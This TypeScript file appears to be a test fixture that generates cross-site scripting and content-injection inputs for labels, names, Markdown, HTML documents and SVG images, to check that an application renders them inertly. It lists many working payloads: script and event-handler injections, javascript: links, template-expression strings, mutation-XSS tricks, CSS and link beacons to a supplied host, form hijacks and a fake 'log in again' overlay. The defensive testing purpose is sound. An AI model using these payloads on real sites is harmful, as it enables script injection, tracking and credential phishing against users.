/** Where hostile texts would have the page connect to. */
export type Host = string;

/** What would be seen if anything of a stranger ran. */
export const ran = (host: Host) =>
  `ran=1;try{top.ran=1;top.document.title='ran'}catch{}document.title='ran';new Image().src='${host}/ran';alert(1)`;

/** A name that any part of a run may have: ids, projects and artifacts are parts of addresses, and take no slash. */
export const NAME = '<img src=x onerror="ran=1;alert(1)">';

/** For all fields that take text: ways out of HTML, attributes, scripts, styles, templates and expressions. */
export function labelOf(host: Host): string {
  const run = ran(host);
  return [
    `"><script>${run}</script><img src=x onerror="${run}"><svg onload="${run}">`,
    `<a href="javascript:${run}" target=_top>a</a><iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<link rel=preconnect href="${host}"><img src="${host}/label.png"><style>@import url(${host}/label.css)</style>`,
    `"] + (${run}) + ["</title></textarea>{{constructor.constructor("${run}")()}}\${${run}}%{x}`,
    `javascript:${run} [a](javascript:${run}) ![b](${host}/b.png)`,
  ].join(' ');
}

export function documentsOf(host: Host): string[] {
  const run = ran(host);
  return [
    `<script>${run}</script><script src="${host}/a.js"></script><script type="module" src="${host}/b.js"></script>`,
    `<img src=x onerror="${run}"><svg onload="${run}"></svg><details open ontoggle="${run}"></details>
<input autofocus onfocus="${run}"><video><source onerror="${run}"></video><body onload="${run}" onpageshow="${run}">`,
    `<base href="${host}/"><a id="click" href="x">one</a><img src="relative.png">`,
    `<a id="click" href="javascript:${run}">one</a><iframe src="javascript:${run}"></iframe>`,
    `<a id="click" href="${host}/self" target="_self">one</a>`,
    `<a id="click" href="${host}/top" target="_top" ping="${host}/ping">one</a>`,
    `<meta http-equiv="refresh" content="0;url=${host}/refresh"><meta http-equiv="refresh" content="0;url=/local">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${host}/csp.png">`,
    `<form action="${host}/form" method="post"><input name="a" value="b"><button id="click">one</button></form>`,
    `<form action="/graphql" method="post"><button id="click" formaction="${host}/f" formtarget="_top">one</button></form>`,
    `<svg><use href="${host}/use.svg#a"/><image href="${host}/i.png"/><foreignObject><iframe src="${host}/f"></iframe><img src="${host}/fo.png"></foreignObject><script>${run}</script><a href="javascript:${run}"><text id="click" y="20">one</text></a><animate attributeName="href" values="javascript:${run}"/></svg>`,
    `<iframe src="${host}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frame src="${host}/g"><object data="${host}/o"></object><embed src="${host}/e"><portal src="${host}/p"></portal>`,
    `<style>@import url(${host}/i.css); body { background: url(${host}/b.png); cursor: url(${host}/c.cur), auto } @font-face { font-family: f; src: url(${host}/f.woff) } p { font-family: f; mask: url(${host}/m.svg#a); list-style: url(${host}/l.png) }</style><p style="background-image: image-set('${host}/s.png' 1x)">text</p>`,
    `<link rel="stylesheet" href="${host}/l.css"><link rel="preconnect" href="${host}"><link rel="dns-prefetch" href="${host}"><link rel="prefetch" href="${host}/pf"><link rel="preload" as="image" href="${host}/pl"><link rel="icon" href="${host}/icon"><link rel="modulepreload" href="${host}/mp.js"><link rel="manifest" href="${host}/m.json">`,
    `<template shadowrootmode="open"><link rel="preconnect" href="${host}"><img src="${host}/shadow.png"></template>`,
    `<img src="${host}/a.png" srcset="${host}/b.png 1x"><picture><source srcset="${host}/c.png"><img></picture><video src="${host}/v.mp4" poster="${host}/p.png" autoplay></video><audio src="${host}/a.mp3" autoplay></audio><table background="${host}/t.png"><tr><td>x</table>`,
    `<noscript><p title="</noscript><link rel=preconnect href=${host}><img src=x onerror=&quot;${run}&quot;>"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><link rel=preconnect href=${host}>`,
    `<div style="position:fixed;inset:0;background:red" class="notice" id="main">log in again</div>`,
  ];
}

export function markdownOf(host: Host): string[] {
  const documents = documentsOf(host);
  return [
    ...documents,
    ...documents.map((text) => `# text\n\n| a |\n|---|\n| ${text.replaceAll('\n', ' ')} |`),
    `[one](javascript:document.title=1) <javascript:document.title=1> ![a](${host}/a.png "t") ![b][b]\n\n[b]: ${host}/b.png`,
    '[x](vbscript:a) [y](data:text/html,<script>1</script>) [z](/local) [w](#main) [v](//127.0.0.1:1/)',
    `[self](${host}/x "\\" target=\\"_self")`,
    labelOf(host),
    `\`<img src=x onerror=alert(1)>\` <a href="${host}/y" target="_top" rel="opener">raw</a>`,
  ];
}

/** Pictures that are documents. */
export function svgOf(host: Host): string {
  const run = ran(host);
  return `<?xml version="1.0"?><?xml-stylesheet href="${host}/x.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${run}"><script>${run}</script><image xlink:href="${host}/in.png" width="9" height="9"/><use href="${host}/use.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}/f"/></foreignObject><style>@import url(${host}/svg.css);</style><rect width="40" height="40" fill="url(${host}/p.svg#p)"/></svg>`;
}
